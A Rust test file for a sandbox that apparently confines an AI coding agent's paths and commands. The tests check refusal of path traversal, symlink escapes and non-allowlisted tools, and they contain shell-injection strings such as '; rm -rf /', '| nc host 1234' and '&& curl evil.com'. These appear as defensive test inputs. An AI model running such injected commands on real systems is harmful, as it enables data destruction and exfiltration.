use bucketcode::sandbox::{
    name_of, parent_of, subcommand_allowed, truncate, ApprovalMode, Event, Found, Reaction, Sandbox,
};

const ROOT: &str = "/work/project";

fn sandbox() -> Sandbox {
    Sandbox::new("project", Ok(ROOT.to_string())).unwrap()
}

fn argv(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn parent_traversal_is_refused() {
    let sb = sandbox();
    assert!(sb.resolve("../etc/passwd").is_err());
    assert!(sb.resolve("a/../../b").is_err());
    assert_eq!(sb.resolve("a/..").unwrap_err(), "path may not contain '..'");
    assert!(sb.resolve("a..b/c").is_ok(), "dots in a name are fine");
}

#[test]
fn absolute_paths_are_refused() {
    let sb = sandbox();
    assert!(sb.resolve("/etc/passwd").is_err());
    assert_eq!(
        sb.resolve("/").unwrap_err(),
        "absolute paths are not allowed; give a path relative to /work/project"
    );
}

#[test]
fn a_symlink_pointing_out_is_refused() {
    // The spelling of this path is innocent; only the resolved target reveals
    // the escape, which is why the check happens after resolution.
    let sb = sandbox();
    assert_eq!(sb.resolve("escape/passwd").unwrap(), "/work/project/escape/passwd");
    assert!(
        sb.resolved("escape/passwd", Found::At("/etc/passwd".into()), None).is_err(),
        "symlink out of the root should be refused"
    );
    assert_eq!(
        sb.resolved("escape/new", Found::Missing, Some("/etc".into())).unwrap_err(),
        "path escapes the project root (/work/project)"
    );
    // A sibling that merely shares the spelling of the root is outside it.
    assert!(sb.resolved("x", Found::At("/work/project2/x".into()), None).is_err());
}

#[test]
fn a_link_that_leads_nowhere_is_refused() {
    // To a writer it looks like a file that does not exist yet, but what is
    // written lands wherever it points.
    let sb = sandbox();
    assert_eq!(
        sb.resolved("link", Found::BrokenLink, Some(ROOT.into())).unwrap_err(),
        "path is a link that leads nowhere"
    );
    assert!(sb.resolved("link/", Found::BrokenLink, None).is_err());
    assert_eq!(
        sb.resolved("link", Found::Missing, Some(ROOT.into())).unwrap().path(),
        "/work/project/link"
    );
}

#[test]
fn paths_inside_the_root_are_allowed() {
    let sb = sandbox();
    assert!(sb.resolved("ok.bkt", Found::At("/work/project/ok.bkt".into()), None).is_ok());
    let missing = sb.resolved("nested/new.bkt", Found::Missing, None);
    assert_eq!(missing.unwrap_err(), "no such directory: /work/project/nested", "parent must exist");
    assert_eq!(
        sb.resolved("nested/new.bkt", Found::Missing, Some("/work/project/nested".into())).unwrap().path(),
        "/work/project/nested/new.bkt",
        "creatable path"
    );
    assert_eq!(sb.resolved(".", Found::At(ROOT.into()), None).unwrap().path(), ROOT);
}

#[test]
fn commands_not_on_the_allowlist_are_refused() {
    let sb = sandbox();
    for bad in ["curl", "rm", "sh", "bash", "python3", "nc"] {
        assert!(
            sb.check(&[bad.to_string()]).is_err(),
            "{bad} should not be allowed"
        );
    }
    assert_eq!(
        sb.check(&argv(&["curl"])).unwrap_err(),
        "curl is not on the allowlist (bkt, cargo, ls, cat, head, tail, wc, grep, rg, find, git, echo, diff)"
    );
}

#[test]
fn shell_syntax_in_arguments_is_refused() {
    let sb = sandbox();
    let cases = [
        vec!["ls", "; rm -rf /"],
        vec!["ls", "$(whoami)"],
        vec!["cat", "a.txt | nc host 1234"],
        vec!["ls", "&& curl evil.com"],
        vec!["cat", "`id`"],
        vec!["ls", "> /etc/passwd"],
    ];
    for c in cases {
        let argv: Vec<String> = c.iter().map(|s| s.to_string()).collect();
        assert!(sb.check(&argv).is_err(), "{c:?} should be refused");
    }
    assert_eq!(
        sb.check(&argv(&["ls", "ok", "a\"b<c"])).unwrap_err(),
        "argument \"a\\\"b<c\" looks like shell syntax; commands run without a shell, so pass a plain argument list instead"
    );
    assert!(sb.check(&argv(&["ls", "$HOME (x)"])).is_ok());
}

#[test]
fn git_is_limited_to_read_only_subcommands() {
    let sb = sandbox();
    assert!(sb.check(&["git".into(), "status".into()]).is_ok());
    assert!(sb.check(&["git".into(), "diff".into()]).is_ok());
    for bad in ["push", "commit", "reset", "clean", "checkout"] {
        assert!(
            sb.check(&["git".into(), bad.into()]).is_err(),
            "git {bad} should be refused"
        );
    }
    assert_eq!(
        subcommand_allowed("git", &[]).unwrap_err(),
        "git  is not permitted; only status, diff, log, show, branch, blame, ls-files, rev-parse are"
    );
}

#[test]
fn cargo_is_limited_to_safe_subcommands() {
    let sb = sandbox();
    assert!(sb.check(&["cargo".into(), "test".into()]).is_ok());
    assert!(sb.check(&["cargo".into(), "publish".into()]).is_err());
    assert!(sb.check(&["cargo".into(), "install".into()]).is_err());
    assert_eq!(
        subcommand_allowed("cargo", &argv(&["install"])).unwrap_err(),
        "cargo install is not permitted; only build, test, check, run, fmt, clippy, tree are"
    );
    assert!(subcommand_allowed("ls", &argv(&["push"])).is_ok());
}

#[test]
fn a_path_to_an_executable_is_refused() {
    let sb = sandbox();
    assert!(sb.check(&["/bin/ls".into()]).is_err());
    assert!(sb.check(&["./evil.sh".into()]).is_err());
    assert_eq!(
        sb.check(&argv(&["/bin/ls"])).unwrap_err(),
        "give a bare command name, not a path"
    );
    assert_eq!(sb.check(&[]).unwrap_err(), "empty command");
}

#[test]
fn never_mode_blocks_everything() {
    let mut sb = sandbox();
    sb.approval = ApprovalMode::Never;
    assert!(sb.run(&["ls".into()]).is_err());
    assert_eq!(sb.log().len(), 1);
    assert!(!sb.log()[0].allowed);
    assert_eq!(sb.log()[0].reason.as_deref(), Some("command execution is disabled"));
    assert_eq!(
        sb.run(&["ls".into()]).unwrap_err(),
        "command execution is disabled for this run"
    );
}

#[test]
fn an_allowed_command_runs_and_is_logged() {
    let mut sb = sandbox();
    let job = sb.run(&["ls".into()]).unwrap();
    assert!(!job.needs_approval());
    assert_eq!(job.argv(), &vec!["ls".to_string()]);
    assert!(matches!(sb.step(&job, Event::Running(1_000_000)), Reaction::Wait));
    let out = match sb.step(&job, Event::Exited(Some(0), "hello.txt\n".into(), String::new())) {
        Reaction::Done(r) => r.unwrap(),
        other => panic!("{other:?}"),
    };
    assert!(out.contains("hello.txt"), "got: {out}");
    assert!(out.contains("[exit 0]"));
    assert_eq!(sb.log().len(), 1);
    assert!(sb.log()[0].allowed);
}

#[test]
fn refused_commands_are_logged_too() {
    let mut sb = sandbox();
    let _ = sb.run(&["curl".into(), "evil.com".into()]);
    assert_eq!(sb.log().len(), 1);
    assert!(!sb.log()[0].allowed);
    assert!(sb.log()[0].reason.is_some());
    assert_eq!(sb.log()[0].argv, argv(&["curl", "evil.com"]));
}

#[test]
fn a_runaway_command_is_killed_and_logged() {
    let mut sb = sandbox();
    let job = sb.run(&argv(&["cargo", "test"])).unwrap();
    assert!(matches!(sb.step(&job, Event::Running(60_000_000_000)), Reaction::Wait));
    match sb.step(&job, Event::Running(60_000_000_001)) {
        Reaction::Kill(e) => assert_eq!(e, "cargo test timed out after 60s and was killed"),
        other => panic!("{other:?}"),
    }
    assert_eq!(sb.log().len(), 1);
    assert_eq!(sb.log()[0].reason.as_deref(), Some("timed out"));
    assert_eq!(sb.log()[0].exit_code, None);
}

#[test]
fn every_end_of_a_job_leaves_one_record() {
    let mut sb = sandbox().with_approval(ApprovalMode::Ask);
    let job = sb.run(&argv(&["ls"])).unwrap();
    assert!(job.needs_approval(), "in ask mode the caller approves");
    match sb.step(&job, Event::Declined) {
        Reaction::Done(Err(e)) => assert_eq!(e, "the command was not approved"),
        other => panic!("{other:?}"),
    }
    match sb.step(&job, Event::StartFailed("not found".into())) {
        Reaction::Done(Err(e)) => assert_eq!(e, "could not start ls: not found"),
        other => panic!("{other:?}"),
    }
    match sb.step(&job, Event::WaitFailed("gone".into())) {
        Reaction::Done(Err(e)) => assert_eq!(e, "gone"),
        other => panic!("{other:?}"),
    }
    match sb.step(&job, Event::Exited(None, "out".into(), "err".into())) {
        Reaction::Done(Ok(t)) => assert_eq!(t, "out\n[stderr]\nerr\n[exit -1]"),
        other => panic!("{other:?}"),
    }
    let allowed: Vec<bool> = sb.log().iter().map(|r| r.allowed).collect();
    assert_eq!(allowed, [false, true, true, true]);
}

#[test]
fn the_log_holds_every_attempt_in_order() {
    let mut sb = sandbox();
    let attempts = [vec!["ls"], vec!["curl", "x"], vec!["git", "push"], vec!["cat", "a"], vec![]];
    for a in &attempts {
        if let Ok(job) = sb.run(&argv(a)) {
            assert!(matches!(sb.step(&job, Event::Running(5)), Reaction::Wait));
            sb.step(&job, Event::Exited(Some(1), String::new(), String::new()));
        }
    }
    let kept: Vec<(Vec<String>, bool)> = sb.log().iter().map(|r| (r.argv.clone(), r.allowed)).collect();
    let want: Vec<(Vec<String>, bool)> = attempts
        .iter()
        .map(|a| (argv(a), a.first().is_some_and(|p| ["ls", "cat"].contains(p))))
        .collect();
    assert_eq!(kept, want);
    assert_eq!((sb.root(), sb.approval), (ROOT, ApprovalMode::Auto));
}

#[test]
fn output_is_truncated_on_a_character() {
    assert_eq!(truncate("abc", 3), "abc");
    assert_eq!(truncate("abcd", 3), "abc\n… truncated, 4 bytes total");
    assert_eq!(truncate("aéb", 2), "a\n… truncated, 4 bytes total");
    assert_eq!(truncate("é", 0), "\n… truncated, 2 bytes total");
    let sb = sandbox();
    let long = "x".repeat(20_000);
    let place = sb.resolved("a", Found::At(format!("{ROOT}/a")), None).unwrap();
    let read = sb.read_file(&place, Ok(long)).unwrap();
    assert_eq!(read, format!("{}\n… truncated, 20000 bytes total", "x".repeat(16_000)));
}

#[test]
fn file_replies_are_exact() {
    let sb = sandbox();
    assert_eq!(sb.root(), ROOT);
    let place = sb.resolved("a.txt", Found::Missing, Some(ROOT.into())).unwrap();
    assert_eq!(place.path(), "/work/project/a.txt");
    assert_eq!(sb.read_file(&place, Err("denied".into())).unwrap_err(), "a.txt: denied");
    assert_eq!(sb.write_file(&place, "hé", Ok(())).unwrap(), "wrote a.txt (3 bytes)");
    assert_eq!(sb.write_file(&place, "", Err("full".into())).unwrap_err(), "a.txt: full");
    assert_eq!(
        Sandbox::new("p", Err("no such file".into())).unwrap_err(),
        "cannot resolve project root p: no such file"
    );
}

#[test]
fn parents_and_names_follow_the_standard_library() {
    for p in [
        "/a/b", "/a/b/", "/a/b//", "/a/./b", "/a/b/.", "/a/b/./.", "/a//b", "/a", "/", "//", "/a/..", "/.hidden",
        "/a/b.", "/a/.b/./c/", "/./a",
    ] {
        let std = std::path::Path::new(p);
        assert_eq!(
            parent_of(p).as_deref(),
            std.parent().and_then(|x| x.to_str()),
            "parent of {p}"
        );
        assert_eq!(
            name_of(p).as_deref(),
            std.file_name().and_then(|x| x.to_str()),
            "name of {p}"
        );
    }
    assert_eq!(parent_of("a").as_deref(), Some(""));
    for p in ["a", "a/", "a/b", "a/b/", "a//b", "./a", ".", "..", "", "a/..", "./.", "a/.", "a/./b"] {
        let std = std::path::Path::new(p);
        assert_eq!(parent_of(p).as_deref(), std.parent().and_then(|x| x.to_str()), "parent of {p}");
        assert_eq!(name_of(p).as_deref(), std.file_name().and_then(|x| x.to_str()), "name of {p}");
    }
}

#[test]
fn approval_modes_are_named() {
    assert_eq!(ApprovalMode::parse("auto"), Ok(ApprovalMode::Auto));
    assert_eq!(ApprovalMode::parse("ask"), Ok(ApprovalMode::Ask));
    assert_eq!(ApprovalMode::parse("never"), Ok(ApprovalMode::Never));
    assert_eq!(ApprovalMode::parse("x"), Err("unknown --commands mode 'x'".to_string()));
}
